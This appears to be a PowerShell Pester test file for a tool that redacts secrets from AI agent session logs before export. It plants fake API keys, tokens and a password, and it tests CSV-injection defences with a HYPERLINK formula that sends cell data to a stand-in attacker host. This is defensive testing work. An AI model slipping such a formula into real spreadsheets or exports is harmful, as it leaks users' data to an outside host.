BeforeAll {
    . (Join-Path $PSScriptRoot 'Common.ps1')
}

Describe 'Protect-AgentRollout' {
    BeforeAll {
        # Fake secrets, assembled from pieces so no file holds a whole key.
        $secrets = [ordered]@{
            'anthropic-key' = 'sk-ant-' + 'api03-' + ('Qw3rTy' * 15)
            'aws-access-key' = 'AKIA' + 'Z7Q4' + 'XK2P' + 'M9VB' + 'L3TD'
            'github-token'   = 'ghp_' + ('a1B2c3D4e5' * 4)
            'email'          = 'dana.' + 'rivera' + '@acme-corp.io'
        }
        # More kinds, generated per run from a seeded Random in each kind's shape.
        $random = [System.Random]::new(9017)
        function New-Fake([string] $Alphabet, [int] $Length) { -join (1..$Length | ForEach-Object { $Alphabet[$random.Next($Alphabet.Length)] }) }
        $alnum = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'
        $hex = '0123456789abcdef'
        $generated = [ordered]@{
            'stripe-key'         = 'sk_' + 'live_' + 'Q7' + (New-Fake $alnum 30)
            'npm-token'          = 'npm' + '_' + 'x9Z' + (New-Fake $alnum 33)
            'huggingface-token'  = 'hf' + '_' + 'QwErTy' + (New-Fake 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz' 28)
            'gitlab-token'       = 'glpat' + '-' + 'a1B2' + (New-Fake $alnum 16)
            'sendgrid-key'       = 'SG' + '.' + (New-Fake $alnum 22) + '.' + (New-Fake $alnum 43)
            'digitalocean-token' = 'dop' + '_v1_' + (New-Fake $hex 64)
            'groq-key'           = 'gsk' + '_' + 'a1B2' + (New-Fake $alnum 48)
            'telegram-bot-token' = '7' + (New-Fake '0123456789' 9) + ':AA' + (New-Fake $alnum 33)
            'age-secret-key'     = 'AGE-' + 'SECRET-KEY-1' + (New-Fake 'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L' 58)
        }
        $password = 'Pw' + (New-Fake $alnum 12) + '7'
        $commandLine = "curl -u admin:$password https://api.acme-corp.io"
        foreach ($kind in $generated.Keys) { $secrets[$kind] = $generated[$kind] }
        $secrets['password'] = $password
        $prompt = "Deploy with $($secrets['anthropic-key']) and $($secrets['aws-access-key']); token $($secrets['github-token']); mail $($secrets['email']). " +
            (($generated.Values | ForEach-Object { "use $_" }) -join '; ') + "; $commandLine. Code: password = os.environ[""DB_PASSWORD""]"
        # The same text as the final answer too, so it reaches a CSV cell whole (the title is shortened).
        $envelope = '"sessionId":"s-secret","cwd":"/srv/shop","version":"2.0.76","isSidechain":false,"userType":"external"'
        $answer = "{""type"":""assistant"",""uuid"":""a3"",""parentUuid"":""a2"",$envelope,""timestamp"":""2025-11-03T09:02:00.000Z"",""requestId"":""req_3"",""message"":{""id"":""msg_3"",""role"":""assistant"",""model"":""claude-opus-4-1-20250805"",""content"":[{""type"":""text"",""text"":$(ConvertTo-Json $prompt)}],""usage"":{""input_tokens"":5,""output_tokens"":7}}}"
        $session = New-ClaudeSession -Path (Join-Path $TestDrive 'secret/s.jsonl') -Prompt $prompt -SessionId 's-secret' -ExtraLines $answer
        $hashBefore = (Get-FileHash -LiteralPath $session.FullName).Hash
    }

    It 'redacts every planted secret, counts them by kind and leaves ordinary code alone' {
        $protected = Get-AgentRollout -LiteralPath $session.FullName | Protect-AgentRollout
        $json = $protected.ToJson()
        foreach ($secret in $secrets.Values) { $json | Should -Not -BeLike "*$secret*" }
        foreach ($kind in $secrets.Keys) { $json | Should -BeLike "*[[]REDACTED:$kind]*" }
        $json | Should -BeLike '*password = os.environ*DB_PASSWORD*'
        $counts = $protected.SourceMeta['redactions']
        foreach ($kind in $secrets.Keys) { $counts[$kind] | Should -BeGreaterOrEqual 1 }
    }

    It 'never modifies the source file, and the record it was given stays as it was' {
        $record = Get-AgentRollout -LiteralPath $session.FullName
        $null = $record | Protect-AgentRollout
        $record.Messages[0].Text | Should -BeLike "*$($secrets['github-token'])*"
        (Get-FileHash -LiteralPath $session.FullName).Hash | Should -Be $hashBefore
    }

    It 'keeps secrets out of every exported dataset shape' {
        foreach ($shape in 'Normalized', 'OpenAIChat', 'ShareGPT') {
            $file = Join-Path $TestDrive "shared-$shape.jsonl"
            Get-AgentRollout -LiteralPath $session.FullName | Protect-AgentRollout | Export-AgentRollout -Path $file -As $shape
            $text = Get-Content -LiteralPath $file -Raw
            foreach ($secret in $secrets.Values) { $text | Should -Not -BeLike "*$secret*" }
        }
    }

    It 'keeps secrets out of transcripts and out of a CSV of the records' {
        $protected = Get-AgentRollout -LiteralPath $session.FullName | Protect-AgentRollout
        $csv = Join-Path $TestDrive 'shared.csv'
        $protected | Export-Csv -LiteralPath $csv
        $plain = Join-Path $TestDrive 'plain.csv'
        Get-AgentRollout -LiteralPath $session.FullName | Export-Csv -LiteralPath $plain
        $outputs = @{
            csv        = Get-Content -LiteralPath $csv -Raw
            markdown   = $protected | ConvertTo-RolloutTranscript
            html       = $protected | ConvertTo-RolloutTranscript -As Html
        }
        # The CSV of the unprotected record does hold the secrets (the prompt is the title).
        $plainText = Get-Content -LiteralPath $plain -Raw
        foreach ($secret in $secrets.Values) { $plainText | Should -BeLike "*$secret*" }
        foreach ($name in $outputs.Keys) {
            foreach ($secret in $secrets.Values) { $outputs[$name] | Should -Not -BeLike "*$secret*" -Because "$name must not hold it" }
        }
        foreach ($kind in $secrets.Keys) { $protected.SourceMeta['redactions'][$kind] | Should -BeGreaterOrEqual 1 -Because $kind }
    }

    It 'takes the user''s own patterns and rejects invalid ones' {
        $protected = Get-AgentRollout -LiteralPath $session.FullName | Protect-AgentRollout -Pattern 'Deploy'
        $protected.Messages[0].Text | Should -BeLike '[[]REDACTED:custom]*'
        { Get-AgentRollout -LiteralPath $session.FullName | Protect-AgentRollout -Pattern '([a-z' } | Should -Throw -ErrorId 'RolloutInvalidPattern,*'
    }

    Context 'CSV injection' {
        BeforeAll {
            $formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
            $hostile = New-ClaudeSession -Path (Join-Path $TestDrive 'formula/s.jsonl') -Prompt $formula
            function Get-FormulaCell([string] $Path) {
                # A cell a spreadsheet evaluates: after any leading whitespace or double quotes, = + - or @; or a TAB or CR.
                Import-Csv -LiteralPath $Path | ForEach-Object { $_.PSObject.Properties.Value } |
                    Where-Object { $_ -match '^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]' -or $_ -match '^[\s"]*[\t\r]' }
            }
        }

        It 'a record''s CSV carries a formula from the trace unless -NeutralizeFormulas is given' {
            $plain = Join-Path $TestDrive 'formula-plain.csv'
            Get-AgentRollout -LiteralPath $hostile.FullName | Protect-AgentRollout | Export-Csv -LiteralPath $plain
            Get-FormulaCell $plain | Should -Contain $formula

            $safe = Join-Path $TestDrive 'formula-safe.csv'
            Get-AgentRollout -LiteralPath $hostile.FullName | Protect-AgentRollout -NeutralizeFormulas | Export-Csv -LiteralPath $safe
            Get-FormulaCell $safe | Should -BeNullOrEmpty
            (Import-Csv -LiteralPath $safe).Title | Should -Be "'$formula"
        }
    }
}
